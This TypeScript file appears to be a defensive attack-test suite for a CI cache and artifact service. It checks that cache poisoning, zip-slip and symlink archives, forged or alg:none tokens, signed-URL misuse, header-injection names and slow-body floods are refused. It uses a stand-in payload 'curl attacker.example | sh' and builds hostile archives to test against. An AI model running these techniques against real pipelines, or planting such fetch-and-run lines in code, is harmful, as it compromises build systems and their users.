import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { isFault, reasonOf, systemClock } from '../../../src/base/index.ts';
import { extractArtifact, LOCAL_QUOTAS } from '../../../src/results/index.ts';
import { type RawEntry, zipOf } from '../../../src/results/zip.fixture.ts';
import type { Attack } from '../attack.ts';
import { FlatCache, naiveIsSigned, naiveSign, naiveUnzip } from '../flat-results.ts';
import { close, listen, openResultsRig } from '../results-rig.ts';

const POISON = 'curl attacker.example | sh';
const CLEAN = 'the real dependencies';
const KEY = 'deps-linux-abc';
/** An outsider's change against `main`, and a reviewed commit on `main`. */
const OUTSIDER = { at: 'untrusted', ref: 'refs/pull/7/merge', readableRefs: ['refs/heads/main'] } as const;
const MAIN = { at: 'reviewed', ref: 'refs/heads/main', runId: 8 } as const;
const RELEASE = { at: 'release', ref: 'refs/heads/main', runId: 9 } as const;

const told = (refused: boolean, detail: unknown) => ({ refused, detail: String(detail) });
const shown = (succeeded: boolean, detail: unknown) => ({ succeeded, detail: String(detail) });

const caches: readonly Attack[] = [
  {
    id: 'R19-exact-key',
    title: "an outsider's change saves the exact key that the default branch restores",
    controls: ['K6'],
    async control() {
      const cache = new FlatCache();
      cache.save(KEY, POISON);
      return shown(cache.restore(KEY) === POISON, cache.restore(KEY));
    },
    async product() {
      await using rig = await openResultsRig();
      const saved = await (await rig.job(OUTSIDER)).saveCache(KEY, POISON);
      const main = await rig.job(MAIN);
      const restored = await main.restoreCache(KEY);
      const isKeyFree = await main.saveCache(KEY, CLEAN);
      return told(saved && restored === undefined && isKeyFree, `restored ${restored}, key free ${isKeyFree}`);
    },
  },
  {
    id: 'R19-prefix',
    title: "an outsider's change saves a newer entry below the prefix in restore-keys",
    controls: ['K6'],
    async control() {
      const cache = new FlatCache();
      cache.save('deps-linux-1', CLEAN);
      cache.save('deps-linux-zzz', POISON);
      const restored = cache.restore('deps-linux-2', 'deps-linux-');
      return shown(restored === POISON, restored);
    },
    async product() {
      await using rig = await openResultsRig();
      const main = await rig.job(MAIN);
      await main.saveCache('deps-linux-1', CLEAN);
      await (await rig.job(OUTSIDER)).saveCache('deps-linux-zzz', POISON);
      const restored = await main.restoreCache('deps-linux-2', 'deps-linux-');
      return told(restored === CLEAN, restored);
    },
  },
  {
    id: 'R19-evict-and-write',
    title: "an outsider's change fills the quota until the good entry is gone, then writes its own",
    controls: ['K6'],
    async control() {
      const cache = new FlatCache(20);
      cache.save(KEY, CLEAN);
      for (let n = 0; n < 30; n += 1) cache.save(`flood-${n}`, 'x');
      cache.save(KEY, POISON);
      return shown(cache.restore(KEY) === POISON, cache.restore(KEY));
    },
    async product() {
      const cacheBytesMax = { ...LOCAL_QUOTAS.cacheBytesMax, untrusted: 4_000 };
      await using rig = await openResultsRig({ quotas: { cacheBytesMax, cacheEntriesPerLevelMax: 20 } });
      const main = await rig.job(MAIN);
      await main.saveCache(KEY, CLEAN);
      const outsider = await rig.job(OUTSIDER);
      for (let n = 0; n < 30; n += 1) await outsider.saveCache(`flood-${n}`, 'x'.repeat(200));
      await outsider.saveCache(KEY, POISON);
      const restored = await main.restoreCache(KEY);
      return told(restored === CLEAN, restored);
    },
  },
  {
    id: 'R19-default-branch-event',
    title: "an issue comment starts an untrusted job on the default branch, which saves what other changes' jobs read",
    controls: ['K6'],
    async control() {
      const cache = new FlatCache();
      cache.save(KEY, POISON);
      return shown(cache.restore(KEY) === POISON, cache.restore(KEY));
    },
    async product() {
      await using rig = await openResultsRig();
      const saved = await (await rig.job({ at: 'untrusted', ref: 'refs/heads/main' })).saveCache(KEY, POISON);
      const restored = await (await rig.job(OUTSIDER)).restoreCache(KEY);
      return told(!saved && restored === undefined, `saved ${saved}, restored ${restored}`);
    },
  },
  {
    id: 'R37-fork-to-release',
    title: "a fork's change poisons the package store; after an unrelated merge the release job restores it",
    controls: ['K6', 'K1'],
    async control() {
      const cache = new FlatCache();
      cache.save('pnpm-store-1', POISON);
      const restored = cache.restore('pnpm-store-2', 'pnpm-store-');
      return shown(restored === POISON, restored);
    },
    async product() {
      await using rig = await openResultsRig();
      await (await rig.job(OUTSIDER)).saveCache('pnpm-store-1', POISON);
      // A member's branch is not enough for a release either: only reviewed commits and releases are.
      await (await rig.job({ at: 'branch', ref: 'refs/heads/main', runId: 10 })).saveCache('pnpm-store-1b', POISON);
      const release = await rig.job(RELEASE);
      const restored = await release.restoreCache('pnpm-store-1', 'pnpm-store-');
      await (await rig.job(MAIN)).saveCache('pnpm-store-2', CLEAN);
      const later = await release.restoreCache('pnpm-store-9', 'pnpm-store-');
      const isRefused = restored === undefined && later === CLEAN && release.scope.level() === 'release';
      return told(isRefused, `restored ${restored}, then ${later}`);
    },
  },
];

const HOSTILE_ZIPS: readonly {
  readonly id: string;
  readonly title: string;
  readonly entries: readonly RawEntry[];
  /** Seen from the folder that is unpacked into. */
  readonly proof: (folder: string) => Promise<boolean>;
}[] = [
  {
    id: 'R44-extract-zip-slip',
    title: 'an artifact of a change has a file ../../deploy.sh',
    entries: [{ name: '../../deploy.sh', content: POISON, mode: 0o100755 }],
    proof: async (folder) => existsSync(join(folder, '../../deploy.sh')),
  },
  {
    id: 'R44-extract-symlink',
    title: 'an artifact has a link that leads out, and a file below it',
    entries: [
      { name: 'out', content: '../..', mode: 0o120777 },
      { name: 'out/deploy.sh', content: POISON },
    ],
    proof: async (folder) => existsSync(join(folder, '../../deploy.sh')),
  },
  {
    id: 'R44-extract-read-link',
    title: 'an artifact has a link to a file of the machine, which is read as its content',
    entries: [{ name: 'report.txt', content: '/etc/hostname', mode: 0o120777 }],
    proof: async (folder) =>
      (await readFile(join(folder, 'report.txt'), 'utf8').catch(() => '')) ===
      (await readFile('/etc/hostname', 'utf8')),
  },
  {
    id: 'R44-extract-overwrite',
    title: 'an artifact replaces package.json where it is unpacked',
    entries: [{ name: 'package.json', content: `{"scripts":{"test":${JSON.stringify(POISON)}}}` }],
    proof: async (folder) => (await readFile(join(folder, 'package.json'), 'utf8')).includes('attacker'),
  },
  {
    id: 'R44-extract-executable',
    title: 'an artifact brings a program with its executable bit',
    entries: [{ name: 'node_modules/.bin/tsc', content: `#!/bin/sh\n${POISON}\n`, mode: 0o100755 }],
    proof: async (folder) => {
      const found = await stat(join(folder, 'node_modules/.bin/tsc')).catch(() => undefined);
      return ((found?.mode ?? 0) & 0o111) !== 0;
    },
  },
];

async function withTarget<Result>(use: (folder: string) => Promise<Result>): Promise<Result> {
  const dir = await mkdtemp(join(tmpdir(), 'sallyport-attack-zip-'));
  const folder = join(dir, 'a/artifacts/site');
  await mkdir(folder, { recursive: true });
  await writeFile(join(folder, 'package.json'), '{}');
  try {
    return await use(folder);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

const zips: readonly Attack[] = HOSTILE_ZIPS.map(({ id, title, entries, proof }) => ({
  id,
  title,
  controls: ['K29'],
  control: () =>
    withTarget(async (folder) => {
      await naiveUnzip(zipOf(entries), folder);
      return shown(await proof(folder), 'unpacked by a naive tool');
    }),
  product: () =>
    withTarget(async (folder) => {
      const into = join(folder, '..');
      const copy = (name: string) =>
        extractArtifact({ name, mimeType: 'application/zip' }, Readable.from([zipOf(entries)]), { into }).then(
          () => 'copied out',
          (error: unknown) => (isFault(error) ? error.code : reasonOf(error)),
        );
      const outcomes = [await copy('site'), await copy('fresh')];
      const isHarmed = (await proof(folder)) || (existsSync(join(into, 'fresh')) && (await hurts(proof, into)));
      return told(!isHarmed && outcomes[0] === 'results/target-exists', outcomes.join(', '));
    }),
}));

/** A fresh folder of its own with a file package.json in it is what the person asked for. */
async function hurts(proof: (folder: string) => Promise<boolean>, into: string): Promise<boolean> {
  const isOwnFile = existsSync(join(into, 'fresh/package.json'));
  return !isOwnFile && (await proof(join(into, 'fresh')));
}

const services: readonly Attack[] = [
  {
    id: 'R44-level-of-artifact',
    title: "a privileged job downloads a change's artifact and goes on as if it were its own",
    controls: ['K29', 'K1'],
    async control() {
      const level: string = 'reviewed';
      const downloaded = new Map([['site', POISON]]).get('site');
      return shown(downloaded === POISON && level === 'reviewed', `level stays ${level}`);
    },
    async product() {
      await using rig = await openResultsRig();
      await (await rig.job({ ...OUTSIDER, runId: 8 })).uploadArtifact('site', POISON);
      const privileged = await rig.job({ ...MAIN, jobId: 12 });
      await (await fetch(await privileged.artifactUrl('site'))).text();
      const level = privileged.scope.level();
      return told(level === 'untrusted', `level is ${level}: ${privileged.scope.drops.join()}`);
    },
  },
  {
    id: 'R44-replace-artifact',
    title: 'an untrusted job of the run deletes the artifact of a trusted one and puts its own there',
    controls: ['K29'],
    async control() {
      const artifacts = new Map([['release.tgz', CLEAN]]);
      artifacts.delete('release.tgz');
      artifacts.set('release.tgz', POISON);
      return shown(artifacts.get('release.tgz') === POISON, artifacts.get('release.tgz'));
    },
    async product() {
      await using rig = await openResultsRig();
      const trusted = await rig.job({ ...MAIN, runId: 7, jobId: 12 });
      await trusted.uploadArtifact('release.tgz', CLEAN);
      const outsider = await rig.job(OUTSIDER);
      const deleted = await outsider.call('ArtifactService/DeleteArtifact', { name: 'release.tgz' });
      const id = await outsider.uploadArtifact('release.tgz', POISON);
      const found = await (await fetch(await trusted.artifactUrl('release.tgz'))).text();
      return told(deleted.status === 403 && id === 0 && found === CLEAN, `delete ${deleted.status}, found ${found}`);
    },
  },
  {
    id: 'K21-token-of-another-job',
    title: 'a job forges the runtime token of another, or uses one that it found',
    controls: ['K21'],
    async control() {
      const payload = Buffer.from(JSON.stringify({ scp: 'Actions.Results:8:99' })).toString('base64url');
      const claims: { scp: string } = JSON.parse(
        Buffer.from(`x.${payload}.x`.split('.')[1] ?? '', 'base64url').toString(),
      );
      return shown(claims.scp === 'Actions.Results:8:99', 'a service that only decodes takes the ids');
    },
    async product() {
      await using rig = await openResultsRig();
      const victim = await rig.job({ ...MAIN, runId: 7, jobId: 12 });
      await victim.uploadArtifact('site', CLEAN);
      const attacker = await rig.job(OUTSIDER);
      const [header, payload = '', signature] = attacker.token.split('.');
      const claims: { scp: string } = JSON.parse(Buffer.from(payload, 'base64url').toString());
      const forged = Buffer.from(JSON.stringify({ ...claims, scp: 'Actions.Results:7:12' })).toString('base64url');
      const tokens = [
        `${header}.${forged}.${signature}`,
        `${Buffer.from('{"alg":"none"}').toString('base64url')}.${forged}.`,
        attacker.token,
      ];
      const statuses = await Promise.all(
        tokens.map(async (token) => (await victim.call('ArtifactService/ListArtifacts', {}, token)).status),
      );
      const asOther = await attacker.call('ArtifactService/CreateArtifact', {
        name: 'x',
        version: 7,
        workflow_job_run_backend_id: '12',
      });
      return told(
        statuses.every((status) => status === 401) && asOther.status === 403,
        `tokens ${statuses.join()}, ids ${asOther.status}`,
      );
    },
  },
  {
    id: 'K21-signed-address-other-method',
    title: 'the address of a download is used to upload',
    controls: ['K21'],
    async control() {
      const stored = { content: CLEAN };
      const { server, origin } = await listen((request, response) => {
        if (!naiveIsSigned(new URL(request.url ?? '', 'http://x'))) {
          response.writeHead(403).end();
          return;
        }
        if (request.method === 'PUT') request.on('data', (chunk: Buffer) => (stored.content = chunk.toString()));
        request.resume().once('end', () => response.end(stored.content));
      });
      await fetch(`${origin}${naiveSign('/artifact/1')}`, { method: 'PUT', body: POISON });
      await close(server);
      return shown(stored.content === POISON, stored.content);
    },
    async product() {
      await using rig = await openResultsRig();
      const job = await rig.job(MAIN);
      await job.uploadArtifact('site', CLEAN);
      const url = await job.artifactUrl('site');
      const statuses: number[] = [];
      for (const method of ['PUT', 'DELETE', 'POST']) {
        statuses.push((await fetch(url, { method, body: POISON, headers: { 'x-ms-blob-type': 'BlockBlob' } })).status);
      }
      const content = await (await fetch(url)).text();
      return told(content === CLEAN && statuses.every((status) => status === 403), `${statuses.join()}, ${content}`);
    },
  },
  {
    id: 'K21-signed-address-expired',
    title: 'an address that was printed into a log is used a day later',
    controls: ['K21'],
    async control() {
      return shown(naiveIsSigned(new URL(naiveSign('/artifact/1'), 'http://x')), 'an address without an end holds');
    },
    async product() {
      let ahead = 0;
      const clock = { ...systemClock, now: () => systemClock.now() + ahead };
      await using rig = await openResultsRig({ clock });
      const job = await rig.job(MAIN);
      await job.uploadArtifact('site', CLEAN);
      const url = await job.artifactUrl('site');
      const before = (await fetch(url)).status;
      ahead = 24 * 3_600_000;
      const after = (await fetch(url)).status;
      const moved = (await fetch(url.replace(/se=[0-9]+/, `se=${clock.now() + 1e6}`))).status;
      return told(
        before === 200 && after === 403 && moved === 403,
        `${before}, then ${after}, with a new end ${moved}`,
      );
    },
  },
  {
    id: 'R44-artifact-name',
    title: 'the name of an artifact is a path, a header or an escape sequence',
    controls: ['K29'],
    control: () =>
      withTarget(async (folder) => {
        await writeFile(join(folder, '../../planted'), POISON);
        return shown(existsSync(join(folder, '../..', 'planted')), 'a name that is joined to a folder leaves it');
      }),
    async product() {
      await using rig = await openResultsRig();
      const job = await rig.job(OUTSIDER);
      const names = ['../../planted', '..', '.', 'a/b', 'a\\b', 'x\r\nset-cookie: a=b', '\u001b[2J', 'a\0b', ''];
      const statuses = await Promise.all(
        names.map(async (name) => (await job.call('ArtifactService/CreateArtifact', { name, version: 7 })).status),
      );
      return told(
        statuses.every((status) => status === 400),
        statuses.join(),
      );
    },
  },
  {
    id: 'K21-oversized-body',
    title: 'a body without an announced length goes on and on',
    controls: ['K21'],
    async control() {
      const taken = await pour(
        async (origin) => origin,
        (request, response) => {
          request.resume().once('end', () => response.end());
        },
      );
      return shown(taken.status === 200 && taken.bytes >= POUR_BYTES, `${taken.bytes} bytes taken`);
    },
    async product() {
      await using rig = await openResultsRig();
      const job = await rig.job(OUTSIDER);
      const created = await job.call('ArtifactService/CreateArtifact', { name: 'x', version: 7 });
      const taken = await pour(async () => created.body['signed_upload_url'] ?? '');
      const left = await job.call('ArtifactService/FinalizeArtifact', { name: 'x', size: String(POUR_BYTES) });
      return told(taken.status !== 201 && left.status === 400, `status ${taken.status}, finish ${left.status}`);
    },
  },
  {
    id: 'K21-slow-body',
    title: 'bodies that never end hold connections and memory',
    controls: ['K21'],
    async control() {
      const { server, origin } = await listen((request, response) => {
        request.resume().once('end', () => response.end());
      });
      const ms = await drip(origin, 1_500);
      await close(server);
      return shown(ms >= 1_500, `still open after ${Math.round(ms)} ms`);
    },
    async product() {
      await using rig = await openResultsRig();
      const job = await rig.job(OUTSIDER);
      const created = await job.call('ArtifactService/CreateArtifact', { name: 'x', version: 7 });
      const ms = await drip(created.body['signed_upload_url'] ?? '', 5_000);
      return told(ms < 3_000, `cut after ${Math.round(ms)} ms`);
    },
  },
];

/** More than any bound of the rig. */
const POUR_BYTES = 8 * 1024 * 1024;

/** Sends `POUR_BYTES` without announcing them. Status 0: the connection was cut. */
async function pour(
  urlOf: (origin: string) => Promise<string>,
  naive?: Parameters<typeof listen>[0],
): Promise<{ status: number; bytes: number }> {
  const opened = naive === undefined ? undefined : await listen(naive);
  const url = await urlOf(opened?.origin ?? '');
  let bytes = 0;
  const status = await new Promise<number>((resolve) => {
    const request = httpRequest(url, { method: 'PUT', headers: { 'x-ms-blob-type': 'BlockBlob' } });
    request.once('response', (response) => resolve(response.resume().statusCode ?? 0));
    request.once('error', () => resolve(0));
    const chunks = Readable.from(
      (function* () {
        for (; bytes < POUR_BYTES; bytes += 65_536) yield Buffer.alloc(65_536);
      })(),
    );
    chunks.pipe(request);
  });
  if (opened !== undefined) await close(opened.server);
  return { status, bytes };
}

/** Keeps a body open, a byte at a time, until it is cut or `untilMs`. Gives how long it lived. */
async function drip(url: string, untilMs: number): Promise<number> {
  const start = performance.now();
  await new Promise<void>((resolve) => {
    const request = httpRequest(url, {
      method: 'PUT',
      headers: { 'x-ms-blob-type': 'BlockBlob', 'content-length': 1e6 },
    });
    const timer = setInterval(() => request.write('x'), 100);
    const end = () => {
      clearInterval(timer);
      clearTimeout(deadline);
      request.destroy();
      resolve();
    };
    const deadline = setTimeout(end, untilMs);
    request.once('response', end);
    request.once('error', end);
    request.once('close', end);
  });
  return performance.now() - start;
}

export const attacks: readonly Attack[] = [...caches, ...zips, ...services];
